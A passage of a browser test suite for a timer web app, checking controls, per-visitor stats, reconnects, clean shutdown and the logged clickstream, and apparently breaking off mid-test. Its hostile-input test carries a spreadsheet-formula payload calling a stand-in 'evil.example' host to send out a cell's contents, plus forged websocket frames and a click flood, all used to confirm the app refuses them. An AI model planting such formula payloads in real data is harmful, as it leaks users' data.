"""The web app in a real headless Chromium: every control, the Stats view, two independent tabs,
reloads and dropped sockets, hostile input and floods, a clean stop, and exactly the expected
clickstream in the local store.

One server serves most tests of the module, but no test expects anything of another: each opens its
own tabs and checks only its own sessions (the ones that started after it began); Stats show a
visitor only their own session anyway. The stop tests run their own server. The server ends a
closed tab's session TEST_GRACE_SECONDS after its socket closed. Every test passes alone and in any
order.
"""

from __future__ import annotations

import json
import os
import re
import signal
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest

from bench.browser import (
    UPDATE_CONTROL_PROPS,
    WS_HOOK,
    answer_ms,
    chromium_path,
    drop_socket,
    event_messages,
    frames_sent,
    launch,
    messages_sent,
    open_app,
    send_messages,
    start_flood,
    stop_flood,
    wait_loaded,
)
from shared.timefmt import TimeInputError, normalize_time_input, parse_time_input
from ui.limits import EVENT_BURST, EVENT_RATE
from ui.preferences_web import KEY as PREFERENCES_KEY
from ui.session import APP_TITLE
from ui.soundpack import SoundPack
from ui.startup import app_version

from _app_server import REPO, TEST_GRACE_SECONDS, Row, WebServer, by_session, read_store
from conftest import missing_part, wait_for

pytestmark = pytest.mark.browser

HMS = re.compile(r"^\d\d:\d\d:\d\d$")
BAD_INPUT, BAD_INPUT_MESSAGE = "12:75", "Seconds must be below 60."
# The weapon: a value that is not ours, and a spreadsheet formula besides.
FORGED_WEAPON = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
# The flood: 4,500 Fire clicks in 10 s. The benchmark (bench/web_flood.py) reports the
# delay it causes another tab; this test only checks that it is not absurd.
FLOOD_PER_SECOND, FLOOD_SECONDS = 450, 3.0
ABSURD_DELAY_MS = 3000
TIME_FIELD = "Time (HH:MM:SS)"
STATS_VIEWPORT = {"width": 900, "height": 1500}
READ_AT = re.compile(r"^This tab's events, read at \d\d:\d\d:\d\d UTC$")
# A session's legend line: short id, start, duration, events (one semantics node, lines joined by \n).
SESSION_LINE = re.compile(r"^[0-9a-f]{8}\s\d\d:\d\d:\d\d UTC, \d\d:\d\d:\d\d\s\d+$")
ARTIFACTS = Path(os.environ.get("HL_VOX_ARTIFACTS_DIR", REPO / "artifacts"))


@pytest.fixture(scope="session")
def browser() -> Iterator[object]:
    executable = chromium_path()
    if executable is None:
        missing_part("Chromium", "run bash scripts/install-system.sh (Debian package chromium)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        missing_part("Playwright", "run bash scripts/install-app.sh dev")
    with sync_playwright() as playwright:
        chromium = launch(playwright, executable)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("web-data")


@pytest.fixture(scope="module")
def server(data_dir: Path) -> Iterator[WebServer]:
    app = WebServer(data_dir, data_dir.parent / "web-server.log")
    try:
        app.wait_ready()
        yield app
        app.stop(signal.SIGTERM)
    finally:
        if app.process.poll() is None or app.group_alive():
            app.kill_group()


@pytest.fixture
def context(browser) -> Iterator[object]:
    """A test's own browser context (a visitor): its tabs close when the test ends. Its pages keep
    their websockets and sent frames for the test (bench.browser.WS_HOOK)."""
    ctx = browser.new_context(viewport={"width": 900, "height": 800})
    ctx.add_init_script(WS_HOOK)
    yield ctx
    ctx.close()


@pytest.fixture
def other_context(browser) -> Iterator[object]:
    """A second visitor, with browser storage of its own."""
    ctx = browser.new_context(viewport=STATS_VIEWPORT)
    ctx.add_init_script(WS_HOOK)
    yield ctx
    ctx.close()


def display(page):
    return page.get_by_text(HMS)


def button(page, name: str):
    return page.get_by_role("button", name=name, exact=True)


def type_time(page, text: str, attempts: int = 3) -> None:
    """Types into an idle timer's field as a user would, until the app shows that it got the text:
    the preview of a valid time, the message of a bad one. Flutter drops text filled into a field it
    has not focused yet, which on a loaded machine can happen even right after the click, so the
    text is retyped. The field keeps the first MAX_INPUT_CHARS of a longer text, as of a paste."""
    from playwright.sync_api import expect

    try:
        reaction = page.get_by_text(normalize_time_input(text), exact=True)
    except TimeInputError as error:
        reaction = page.get_by_text(str(error), exact=True)
    field = page.get_by_label(TIME_FIELD)
    for _ in range(attempts):
        field.click()
        field.fill("")  # a full field ignores a paste over it (Flutter's length limit keeps it)
        field.fill(text)
        try:
            expect(reaction).to_be_visible(timeout=1500)
            return
        except AssertionError:
            continue
    raise AssertionError(f"the app never took {text!r} from the time field")


def wait_for_log(server: WebServer, pattern: str, since: int = 0, timeout: float = 5.0) -> None:
    """Waits for a line matching `pattern` in the server's log after its first `since` characters."""
    if not wait_for(lambda: re.search(pattern, server.log_text()[since:]) is not None, timeout):
        raise AssertionError(f"server log never matched {pattern!r}:\n{server.log_text()[-3000:]}")


def session_ids(data_dir: Path) -> set[str]:
    return {row.session_id for row in read_store(data_dir)}


def own_sessions(data_dir: Path, known: set[str], events: list[int],
                 timeout: float = 5.0) -> list[list[Row]]:
    """The sessions not in `known`, in the order they started, once the store holds (at least)
    `events[i]` events of the i-th: a click reaches the store a moment after it happened."""
    def found() -> list[list[Row]]:
        return [session for session in by_session(read_store(data_dir))
                if session[0].session_id not in known]

    def complete() -> bool:
        sessions = found()
        return len(sessions) == len(events) and all(
            len(session) >= count for session, count in zip(sessions, events, strict=True))

    if not wait_for(complete, timeout):
        raise AssertionError(f"expected sessions of {events} events, the store has {found()}")
    return found()


def clicks(session: list[Row]) -> list[tuple[str, str, dict | None]]:
    """The session's events to compare: measurements (app_start's and a finish's timings, the
    sampled sound_played) are checked for their shape here and left out of the comparison."""
    kept = []
    for row in session:
        metadata = row.metadata
        if row.event_type == "sound_played":
            continue
        if row.event_type == "app_start":
            assert set(metadata or {}) == {"version", "startup_ms", "experiments"}, metadata
            metadata = None
        elif row.event_type == "timer_finished":
            assert 0 <= (metadata or {}).pop("late_ms") < 2000, metadata
        kept.append((row.event_type, row.component, metadata))
    return kept


def refresh_until(page, text: str, timeout: float = 5.0) -> None:
    """Clicks Refresh until `text` shows: the store gets a click a moment after it happened."""
    deadline = time.monotonic() + timeout
    while not page.get_by_text(text, exact=True).is_visible():
        if time.monotonic() > deadline:
            raise AssertionError(f"{text!r} not shown within {timeout} s of refreshing")
        button(page, "Refresh").click()
        time.sleep(0.1)


def settled_screenshot(page, path: Path, timeout: float = 5.0) -> None:
    """Saves the page once two screenshots in a row agree: Flutter paints its canvas a little after
    it updates the accessibility tree the test waits on, so one shot can show the frame before."""
    page.mouse.move(0, 0)  # no hover highlight in the picture
    deadline = time.monotonic() + timeout
    previous = page.screenshot()
    while (shot := page.screenshot()) != previous:
        if time.monotonic() > deadline:
            raise AssertionError(f"the page never stopped changing for {path.name}")
        previous = shot
        time.sleep(0.2)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(shot)


def test_every_control_works(server: WebServer, data_dir: Path, context) -> None:
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    page = open_app(context, server.url)
    expect(display(page)).to_have_text("00:25:00")
    expect(button(page, "Pause")).to_be_disabled()
    expect(page).to_have_title(APP_TITLE)

    names = [name for name, _ in SoundPack().backgrounds()]
    expect(page.get_by_text(names[0], exact=True)).to_be_visible()
    button(page, "Change background").click()
    expect(page.get_by_text(names[1], exact=True)).to_be_visible()

    button(page, "Weapon").click()
    button(page, "M4A1").click()
    button(page, "Fire").click()

    type_time(page, BAD_INPUT)
    expect(page.get_by_text(BAD_INPUT_MESSAGE)).to_be_visible()
    button(page, "Start").click()  # refused: the message stays, nothing runs, the field gets focus
    expect(page.get_by_label(TIME_FIELD)).to_be_focused()
    expect(page.get_by_text(BAD_INPUT_MESSAGE)).to_be_visible()
    expect(button(page, "Pause")).to_be_disabled()

    type_time(page, "1:00")
    expect(page.get_by_text(BAD_INPUT_MESSAGE)).to_have_count(0)
    expect(display(page)).to_have_text("00:01:00")
    button(page, "Start").click()
    expect(display(page)).to_have_text("00:00:59", timeout=2500)
    expect(page).to_have_title(re.compile(rf"^00:5\d · {APP_TITLE}$"))  # the tab says the time left
    button(page, "Pause").click()
    expect(button(page, "Resume")).to_be_visible()
    frozen = display(page).inner_text()
    time.sleep(1.2)
    expect(display(page)).to_have_text(frozen)
    button(page, "Resume").click()
    expect(button(page, "Pause")).to_be_enabled()
    button(page, "Time left").click()
    # The announcement plays in the browser; Reset would stop it, so let it start first.
    wait_for_log(server, r"browser audio speech \d+: playing", since=log_start)
    button(page, "Reset").click()
    expect(display(page)).to_have_text("00:01:00")
    expect(button(page, "Pause")).to_be_disabled()
    expect(page).to_have_title(APP_TITLE)

    type_time(page, "3")
    expect(display(page)).to_have_text("00:00:03")
    started = time.monotonic()
    button(page, "Start").click()
    expect(display(page)).to_have_text("00:00:00", timeout=6000)
    assert 2.0 < time.monotonic() - started < 5.0
    expect(button(page, "Pause")).to_be_disabled()
    expect(page).to_have_title(f"Time's up · {APP_TITLE}")  # and the display turned red (screenshot)

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "web-app.png"))

    # Sounds play in the browser: the tab's players report back to the server.
    wait_for_log(server, r"browser audio /sounds/ui/start\.wav: playing", since=log_start)
    wait_for_log(server, r"browser audio /sounds/weapons/m4a1/shot\d\.wav: playing", since=log_start)
    wait_for_log(server, r"browser audio /sounds/endings/\w+\.wav: playing", since=log_start)
    # No visitor's address in the log: no access log, no address in the websocket lines.
    assert "GET / HTTP" not in server.log_text()
    assert not re.search(r'\d+\.\d+\.\d+\.\d+:\d+ - "', server.log_text())
    assert re.search(r'<client> - "WebSocket /ws" \[accepted\]', server.log_text())

    [session] = own_sessions(data_dir, known, [12])
    [timeleft] = [row for row in session if row.component == "timeleft_button"]
    assert re.fullmatch(r"00:00:5\d", (timeleft.metadata or {})["remaining_time"])
    assert session.index(timeleft) == 8  # after Resume, before Reset
    assert clicks([row for row in session if row != timeleft]) == [
        ("app_start", "application", None),
        ("button_click", "change_background_button", None),
        ("weapon_select", "weapon_dropdown", {"weapon": "m4a1"}),
        ("button_click", "shoot_gun_button", {"weapon": "m4a1"}),
        ("input_error", "time_input", {"message": BAD_INPUT_MESSAGE}),
        ("button_click", "start_button", {"time_input": "00:01:00"}),
        ("button_click", "pause_button", {"is_paused": True}),
        ("button_click", "pause_button", {"is_paused": False}),
        ("button_click", "reset_button", None),
        ("button_click", "start_button", {"time_input": "00:00:03"}),
        ("timer_finished", "timer", {"duration": "00:00:03", "pauses": 0}),
    ]


def test_stats_show_each_visitor_only_their_own_session(server: WebServer, data_dir: Path, context,
                                                       other_context) -> None:
    """Visitor A picks the AWP; visitor B, with A's session in the store, sees in Stats its own
    clicks only (exact counts, one session), while its timer counts down behind the view; A's Stats
    show A's session only."""
    from playwright.sync_api import expect

    known = session_ids(data_dir)
    visitor_a = open_app(context, server.url)
    button(visitor_a, "Weapon").click()
    button(visitor_a, "AWP").click()
    button(visitor_a, "Fire").click()
    [session_a] = own_sessions(data_dir, known, [3])

    page = open_app(other_context, server.url)  # visitor B, the whole Stats panel on screen
    button(page, "Change background").click()
    button(page, "Weapon").click()
    button(page, "M4A1").click()
    button(page, "Fire").click()
    type_time(page, "10:00")
    button(page, "Start").click()
    expect(display(page)).to_have_text("00:09:59", timeout=2500)
    seen_599 = time.monotonic()

    button(page, "Stats").click()
    expect(display(page)).to_have_count(0)  # the timer screen is hidden, not underneath
    _, session_b = own_sessions(data_dir, known, [3, 6])
    assert clicks(session_b) == [
        ("app_start", "application", None),
        ("button_click", "change_background_button", None),
        ("weapon_select", "weapon_dropdown", {"weapon": "m4a1"}),
        ("button_click", "shoot_gun_button", {"weapon": "m4a1"}),
        ("button_click", "start_button", {"time_input": "00:10:00"}),
        ("button_click", "stats_button", None),
    ]
    refresh_until(page, "stats_button 1")  # its own Stats click lands a moment after the first read
    for name in ("change_background_button", "shoot_gun_button", "start_button", "stats_button"):
        expect(page.get_by_text(f"{name} 1", exact=True)).to_be_visible()
    expect(page.get_by_text("m4a1 2", exact=True)).to_be_visible()
    expect(page.get_by_text(re.compile(r"^awp\s"))).to_have_count(0)
    expect(page.get_by_text(SESSION_LINE)).to_have_count(1)
    expect(page.get_by_text(re.compile(rf"^{session_b[0].session_id[:8]}\s"))).to_be_visible()
    expect(page.get_by_text(re.compile(rf"^{session_a[0].session_id[:8]}\s"))).to_have_count(0)
    expect(page.get_by_text(READ_AT)).to_be_visible()
    settled_screenshot(page, ARTIFACTS / "web-stats.png")

    button(visitor_a, "Stats").click()
    expect(visitor_a.get_by_text(SESSION_LINE)).to_have_count(1)
    expect(visitor_a.get_by_text(re.compile(rf"^{session_a[0].session_id[:8]}\s"))).to_be_visible()
    expect(visitor_a.get_by_text("m4a1 2", exact=True)).to_have_count(0)

    button(page, "Timer").click()
    expect(button(page, "Pause")).to_be_enabled()
    # It counted down all along behind Stats (not paused, not reset): 00:09:59 showed up to a second
    # before seen_599; the margins cover that and a late tick.
    elapsed = time.monotonic() - seen_599
    assert 599 - elapsed - 2 < parse_time_input(display(page).inner_text()) < 599 - elapsed + 1.5


def test_a_server_started_with_stats_all_shows_everyone_the_whole_store(browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    app = WebServer(tmp_path, tmp_path / "web-server.log", "--stats-all")
    try:
        app.wait_ready()
        visitors = [browser.new_context(viewport=STATS_VIEWPORT) for _ in range(2)]
        first, second = (open_app(visitor, app.url) for visitor in visitors)
        button(first, "Fire").click()
        button(second, "Fire").click()
        sessions = own_sessions(tmp_path, set(), [2, 2])
        button(second, "Stats").click()
        refresh_until(second, "shoot_gun_button 2")  # both visitors' clicks
        for session in sessions:
            expect(second.get_by_text(re.compile(rf"^{session[0].session_id[:8]}\s"))).to_be_visible()
        expect(second.get_by_text(re.compile(r"^All events in the local store, read at "))).to_be_visible()
        for visitor in visitors:
            visitor.close()
    finally:
        app.stop()
        if app.process.poll() is None or app.group_alive():
            app.kill_group()


def test_two_tabs_run_independent_timers(server: WebServer, data_dir: Path, context) -> None:
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    first, second = open_app(context, server.url), open_app(context, server.url)
    type_time(first, "30")
    button(first, "Start").click()
    # Any second after the start: on a loaded machine one of them may be on screen too briefly to see.
    expect(display(first)).to_have_text(re.compile(r"00:00:2\d"), timeout=3500)
    expect(display(second)).to_have_text("00:25:00")
    expect(button(second, "Pause")).to_be_disabled()

    type_time(second, "10:00")
    button(second, "Start").click()
    button(first, "Pause").click()
    expect(button(first, "Resume")).to_be_visible()
    expect(button(second, "Pause")).to_be_enabled()  # pausing one tab does not pause the other
    frozen = display(first).inner_text()
    expect(display(second)).to_have_text(re.compile(r"00:09:5[0-8]"), timeout=3500)
    expect(display(first)).to_have_text(frozen)

    first_id = own_sessions(data_dir, known, [1, 1])[0][0].session_id
    first.close()
    # Its session ends once the grace after its socket closed is up (Flet notices at once or
    # within a few seconds); the other tab's never notices.
    closed = time.monotonic()
    wait_for_log(server, rf"session {first_id} ended \(disconnected\)", since=log_start,
                 timeout=TEST_GRACE_SECONDS + 15)
    assert time.monotonic() - closed > TEST_GRACE_SECONDS - 1
    wait_for_log(server, rf"ticker of session {first_id} stopped", since=log_start)
    shown = display(second).inner_text()
    expect(display(second)).not_to_have_text(shown, timeout=2500)  # still running on its own
    assert parse_time_input(display(second).inner_text()) < parse_time_input(shown)

    first_tab, second_tab = own_sessions(data_dir, known, [4, 2])
    assert clicks(first_tab)[:3] == [
        ("app_start", "application", None),
        ("button_click", "start_button", {"time_input": "00:00:30"}),
        ("button_click", "pause_button", {"is_paused": True}),
    ]
    assert len(first_tab) == 4
    stop = first_tab[-1]
    assert (stop.event_type, stop.component, (stop.metadata or {})["reason"]) == (
        "app_stop", "application", "disconnected")
    assert (stop.metadata or {})["offline_seconds"] >= TEST_GRACE_SECONDS
    assert clicks(second_tab) == [
        ("app_start", "application", None),
        ("button_click", "start_button", {"time_input": "00:10:00"}),
    ]


def session_ended(server: WebServer, session_id: str, since: int) -> None:
    """Waits for the session's end: its tab closed, its grace up."""
    wait_for_log(server, rf"session {session_id} ended \(disconnected\)", since=since,
                 timeout=TEST_GRACE_SECONDS + 15)


def test_a_reload_and_a_dropped_socket_keep_the_countdown_going(server: WebServer, data_dir: Path,
                                                                context) -> None:
    """Mid-countdown the tab reloads, then its socket drops: the session goes on, its display keeps
    counting and finishes, the ending sound plays in the browser, and the store has one app_start,
    two app_reconnects, one timer_finished and one app_stop, last."""
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    page = open_app(context, server.url)
    type_time(page, "15")
    button(page, "Start").click()
    expect(display(page)).to_have_text(re.compile(r"00:00:1[0-4]"), timeout=2500)
    [started] = [session[0] for session in own_sessions(data_dir, known, [1])]

    page.reload()
    wait_loaded(page)
    expect(display(page)).to_have_text(re.compile(r"00:00:(0\d|1[0-3])"), timeout=1000)
    shown = display(page).inner_text()
    expect(display(page)).not_to_have_text(shown, timeout=2500)  # counting, not frozen
    expect(page).to_have_title(re.compile(rf"^00:\d\d · {APP_TITLE}$"))

    dropped_at = len(server.log_text())
    drop_socket(page)
    wait_for_log(server, r"Session reconnected", since=dropped_at)
    expect(display(page)).to_have_text("00:00:00", timeout=16_000)
    expect(page).to_have_title(f"Time's up · {APP_TITLE}")
    # The browser's players work after the reconnects: the ending plays there.
    wait_for_log(server, r"browser audio /sounds/endings/\w+\.wav: playing", since=dropped_at)
    button(page, "Time left").click()  # and a click still works
    wait_for_log(server, r"browser audio speech \d+: playing", since=dropped_at)

    page.close()
    session_ended(server, started.session_id, log_start)
    [session] = own_sessions(data_dir, known, [7])
    kinds = [row.event_type for row in session]
    assert [kinds.count(kind) for kind in ("app_start", "app_reconnect", "timer_finished", "app_stop")] == [
        1, 2, 1, 1]
    assert kinds[-1] == "app_stop" and (session[-1].metadata or {})["reason"] == "disconnected"
    assert [metadata for kind, _, metadata in clicks(session) if kind == "timer_finished"] == [
        {"duration": "00:00:15", "pauses": 0}]


def test_a_tab_back_after_its_grace_gets_a_new_session(server: WebServer, data_dir: Path,
                                                       context) -> None:
    """The tab's socket drops and it cannot reconnect until its session's grace is up: that
    session ends (app_stop its last event), and the tab, back on the page Flet still had, gets a
    new session that works instead of a dead one."""
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    page = open_app(context, server.url)
    button(page, "Fire").click()
    [first] = [session[0] for session in own_sessions(data_dir, known, [2])]
    # Offline as a browser sees it: each new socket fails to connect (a closed port) and reports
    # it, asynchronously; a constructor that throws instead made Flet's client reload the page now
    # and then, which no real outage does.
    page.evaluate("() => { window.__RealWebSocket = WebSocket; window.WebSocket = function () { "
                  "return new window.__RealWebSocket('ws://127.0.0.1:9/'); }; }")
    drop_socket(page)
    session_ended(server, first.session_id, log_start)
    page.evaluate("() => { window.WebSocket = window.__RealWebSocket; }")  # the network is back
    wait_for_log(server, r"the tab starts a new one", since=log_start, timeout=30)
    type_time(page, "2")
    button(page, "Start").click()
    expect(display(page)).to_have_text("00:00:00", timeout=6000)
    old, new = own_sessions(data_dir, known, [3, 3])
    assert clicks(old)[:2] == [("app_start", "application", None),
                               ("button_click", "shoot_gun_button", {"weapon": "glock18"})]
    assert old[-1].event_type == "app_stop" and old[-1].metadata is not None
    assert old[-1].metadata["reason"] == "disconnected"
    assert old[-1].metadata["offline_seconds"] >= TEST_GRACE_SECONDS
    assert clicks(new) == [("app_start", "application", None),
                           ("button_click", "start_button", {"time_input": "00:00:02"}),
                           ("timer_finished", "timer", {"duration": "00:00:02", "pauses": 0})]


def test_hostile_input_gets_the_normal_message_and_forged_values_are_refused(
        server: WebServer, data_dir: Path, context) -> None:
    """A 10,000-character and a 4,301-digit paste (the field keeps its first characters), the same
    text forged past the field's cap, and a replayed dropdown frame carrying a weapon that is not
    ours: messages, no crash, the forged weapon neither stored nor used, only counted."""
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    page = open_app(context, server.url)
    longest = "The longest time is 99:59:59."
    type_time(page, "x" * 10_000)
    type_time(page, "9" * 4301)

    before = frames_sent(page)
    type_time(page, "12")
    typed = [message for message in messages_sent(page, before)
             if message[0] == UPDATE_CONTROL_PROPS and message[1].get("props", {}).get("value") == "12"]
    [change] = [message for message in event_messages(messages_sent(page, before), "change")
                if message[1]["data"] == "12"]
    forged = [[typed[-1][0], {**typed[-1][1], "props": {"value": "9" * 4301}}],
              [change[0], {**change[1], "data": "9" * 4301}]]
    send_messages(page, forged)  # past the field's cap: what the field never sends
    expect(page.get_by_text(longest, exact=True)).to_be_visible()
    button(page, "Start").click()
    expect(page.get_by_text(longest, exact=True)).to_be_visible()
    expect(button(page, "Pause")).to_be_disabled()

    before = frames_sent(page)
    button(page, "Weapon").click()
    button(page, "M4A1").click()
    assert wait_for(lambda: bool(event_messages(messages_sent(page, before), "select")))
    replayed = [[action, _forge(body)] for action, body in messages_sent(page, before)
                if "m4a1" in str(body)]
    send_messages(page, replayed)
    button(page, "Fire").click()
    type_time(page, "2")
    button(page, "Start").click()  # the session still works
    expect(display(page)).to_have_text("00:00:00", timeout=6000)

    [started] = [session[0] for session in own_sessions(data_dir, known, [1])]
    page.close()
    session_ended(server, started.session_id, log_start)
    [session] = own_sessions(data_dir, known, [8])
    assert FORGED_WEAPON not in str([row.metadata for row in session])
    assert clicks(session)[:-1] == [
        ("app_start", "application", None),
        ("input_error", "time_input", {"message": longest}),
        ("weapon_select", "weapon_dropdown", {"weapon": "m4a1"}),
        ("button_click", "shoot_gun_button", {"weapon": "m4a1"}),
        ("button_click", "start_button", {"time_input": "00:00:02"}),
        ("timer_finished", "timer", {"duration": "00:00:02", "pauses": 0}),
        ("session_limits", "application", {"dropped_events": 0, "dropped_sounds": 0, "refused_values": 1}),
    ]
    assert "app_error" not in [row.event_type for row in session]  # nothing raised in a handler


def _forge(body: dict) -> dict:
    """The dropdown's message with our weapon's key swapped for FORGED_WEAPON."""
    if "props" in body:
        return {**body, "props": {key: FORGED_WEAPON if value == "m4a1" else value
                                  for key, value in body["props"].items()}}
    return {**body, "data": FORGED_WEAPON}


def test_a_flooding_tab_does_not_stall_another(server: WebServer, data_dir: Path, context,
                                               other_context) -> None:
    """One visitor's tab sends Fire clicks at the issue's rate; another visitor's clicks are still
    answered (not absurdly late), the flood's events are capped at the session's fair share and
    every click over it is counted in one summary."""
    from playwright.sync_api import expect

    known, log_start = session_ids(data_dir), len(server.log_text())
    flooder, other = open_app(context, server.url), open_app(other_context, server.url)
    fire = _click_message(flooder, "Fire")
    background = _click_message(other, "Change background")
    flooding, _ = [session[0] for session in own_sessions(data_dir, known, [2, 2])]

    start_flood(flooder, fire, FLOOD_PER_SECOND)
    flood_started = time.monotonic()
    try:
        time.sleep(0.5)  # under way
        delays = []
        while time.monotonic() - flood_started < FLOOD_SECONDS:
            delays.append(answer_ms(other, background))
            time.sleep(0.1)
        button(other, "Start").click()  # and the other visitor's screen answers too
        expect(display(other)).to_have_text("00:24:59", timeout=2500)
    finally:
        flooded = stop_flood(flooder)
    flood_seconds = time.monotonic() - flood_started
    assert delays and all(0 <= delay < ABSURD_DELAY_MS for delay in delays), delays

    flooder.close()
    session_ended(server, flooding.session_id, log_start)

    def stored() -> list[Row]:
        return [row for row in read_store(data_dir) if row.session_id == flooding.session_id]

    assert wait_for(lambda: stored()[-1].event_type == "app_stop"), "the session's end never arrived"
    session = stored()
    shots = [row for row in session if row.component == "shoot_gun_button"]
    assert len(shots) <= EVENT_BURST + EVENT_RATE * (flood_seconds + 1)
    [summary] = [row.metadata or {} for row in session if row.event_type == "session_limits"]
    assert len(shots) + summary["dropped_events"] == flooded + 1  # every click tracked or counted
    assert session[-1].event_type == "app_stop"


def _click_message(page, name: str) -> list:
    """Clicks the button once and returns the click's websocket message, for replaying it."""
    before = frames_sent(page)
    button(page, name).click()
    assert wait_for(lambda: bool(event_messages(messages_sent(page, before), "click")))
    return event_messages(messages_sent(page, before), "click")[0]


def send_sigterm(app: WebServer) -> None:
    app.process.send_signal(signal.SIGTERM)  # to the app only: it must take its uploader down itself


def press_ctrl_c(app: WebServer) -> None:
    os.killpg(app.process.pid, signal.SIGINT)  # a terminal signals the whole group, uploader included


@pytest.mark.parametrize("stop", [send_sigterm, press_ctrl_c], ids=["sigterm", "ctrl_c"])
def test_a_signal_stops_the_server_cleanly_and_ends_every_session_once(
        browser, tmp_path: Path, stop: Callable[[WebServer], None]) -> None:
    """One tab closed before the stop, one still open with its timer running."""
    from playwright.sync_api import expect

    app = WebServer(tmp_path, tmp_path / "web-server.log")
    try:
        app.wait_ready()
        context = browser.new_context()
        closed, running = open_app(context, app.url), open_app(context, app.url)
        closed.close()
        type_time(running, "10:00")
        button(running, "Start").click()
        expect(display(running)).to_have_text("00:09:59", timeout=2500)
        own_sessions(tmp_path, set(), [1, 2])  # both tabs' clicks are in the store

        started = time.monotonic()
        stop(app)
        assert app.wait(6.0) == 0, app.log_text()[-3000:]
        assert time.monotonic() - started < 6.0
        assert app.leftover_processes() == []
        context.close()
    finally:
        if app.process.poll() is None or app.group_alive():
            app.kill_group()

    closed_tab, running_tab = by_session(read_store(tmp_path))
    # Every session ends exactly once: "app_exit" (the closed tab's grace is not up yet), or
    # "disconnected" on a machine so slow that it was.
    for session in (closed_tab, running_tab):
        assert [row.event_type for row in session].count("app_stop") == 1
        assert session[-1].event_type == "app_stop"
        assert (session[-1].metadata or {})["reason"] in ("disconnected", "app_exit")
    assert clicks(closed_tab)[:-1] == [("app_start", "application", None)]
    assert clicks(running_tab)[:-1] == [("app_start", "application", None),
                                        ("button_click", "start_button", {"time_input": "00:10:00"})]


def test_bad_setting_is_named_and_nothing_starts(monkeypatch: pytest.MonkeyPatch,
                                                 caplog: pytest.LogCaptureFixture) -> None:
    from ui.__main__ import main

    monkeypatch.setenv("HL_VOX_BATCH_SIZE", "lots")
    assert main(["--web", "--port", "1"]) == 2
    assert "HL_VOX_BATCH_SIZE" in caplog.text


# ---- Pomodoro, keyboard, mute, preferences ------------------------------------------------------

def choose(page, dropdown: str, option: str) -> None:
    button(page, dropdown).click()
    button(page, option).click()


def stored_preferences(page) -> dict:
    """What the tab's browser keeps for the app (Flutter's web storage: a JSON string, kept as JSON)."""
    kept = page.evaluate("key => localStorage.getItem(key)", f"flutter.{PREFERENCES_KEY}")
    return json.loads(json.loads(kept)) if kept else {}


def set_setting(page, label: str, text: str) -> None:
    """Types a Pomodoro setting and commits it with Enter, as a user would. (The field's
    accessibility value lags what it shows: the test looks at the display instead.)"""
    field = page.get_by_label(label, exact=True)
    field.click()
    field.fill(text)
    field.press("Enter")


def test_a_pomodoro_with_tiny_phases_runs_focus_break_focus_by_itself(server: WebServer, data_dir: Path,
                                                                       context) -> None:
    from playwright.sync_api import expect

    known = session_ids(data_dir)
    page = open_app(context, server.url)
    choose(page, "Mode", "Pomodoro")
    expect(page.get_by_text("Focus 1 of 4 · 0 done today", exact=True)).to_be_visible()
    set_setting(page, "Focus", "2")
    # Its commit's answer (the field rewritten as 00:00:02, the display) comes before the next field
    # is typed into: once in 11 runs a Short break typed meanwhile was lost.
    expect(display(page)).to_have_text("00:00:02")
    set_setting(page, "Short break", "1")
    page.get_by_role("switch", name="Auto-start focus").click()
    expect(display(page)).to_have_text("00:00:02")
    button(page, "Start").click()
    expect(page.get_by_text("Focus 2 of 4 · 1 done today", exact=True)).to_be_visible(timeout=6000)
    expect(page).to_have_title(re.compile(rf"^00:0\d Focus · {APP_TITLE}$"))
    [session] = own_sessions(data_dir, known, [1])
    started = session[0].metadata or {}
    assert started["version"] == app_version() and started["startup_ms"] > 0
    assert set(started["experiments"]) == {"ending_sound"}  # the file that ships with the app

    def phases() -> list[tuple[str, int, bool]]:
        return [(m["phase"], m["cycle"], m["auto"]) for row in read_store(data_dir)
                if row.session_id == session[0].session_id and row.event_type == "phase_started"
                and (m := row.metadata)]

    assert wait_for(lambda: len(phases()) >= 3, 5), phases()
    assert phases()[:3] == [("focus", 1, False), ("short_break", 1, True), ("focus", 2, True)]
    finished = [row.metadata or {} for row in read_store(data_dir)
                if row.session_id == session[0].session_id and row.event_type == "timer_finished"]
    assert finished[0]["phase"] == "focus" and finished[0]["pauses"] == 0
    assert 0 <= finished[0]["late_ms"] < 1000
    button(page, "Reset").click()  # back to the first focus; no more phases run
    expect(page.get_by_text(re.compile(r"^Focus 1 of 4 · \d done today$"))).to_be_visible()


def test_space_starts_and_pauses_and_m_mutes_every_sound(server: WebServer, data_dir: Path,
                                                          context) -> None:
    from playwright.sync_api import expect

    known = session_ids(data_dir)
    page = open_app(context, server.url)
    page.keyboard.press("Space")  # a fresh tab: the app has the focus, no field has
    expect(display(page)).to_have_text("00:24:59", timeout=2500)
    page.keyboard.press("Space")
    expect(button(page, "Resume")).to_be_visible()
    page.keyboard.press("m")
    expect(button(page, "Unmute")).to_be_visible()
    muted_at = len(server.log_text())
    button(page, "Fire").click()
    button(page, "Time left").click()
    time.sleep(1.0)  # what the browser would have reported by now
    assert not re.search(r"browser audio \S+: playing", server.log_text()[muted_at:])
    [session] = own_sessions(data_dir, known, [6])
    assert clicks(session)[1:4] == [
        ("button_click", "start_button", {"time_input": "00:25:00", "via": "keyboard"}),
        ("button_click", "pause_button", {"is_paused": True, "via": "keyboard"}),
        ("button_click", "mute_button", {"muted": True, "via": "keyboard"}),
    ]


def test_preferences_stay_in_their_browser_and_never_reach_another(server: WebServer, data_dir: Path,
                                                                    context, other_context) -> None:
    from playwright.sync_api import expect

    page = open_app(context, server.url)
    choose(page, "Mode", "Pomodoro")
    set_setting(page, "Focus", "50:00")
    expect(display(page)).to_have_text("00:50:00")
    page.reload()
    wait_loaded(page)
    expect(display(page)).to_have_text("00:50:00")
    again = open_app(context, server.url)  # a new tab of the same browser: a new session, same choices
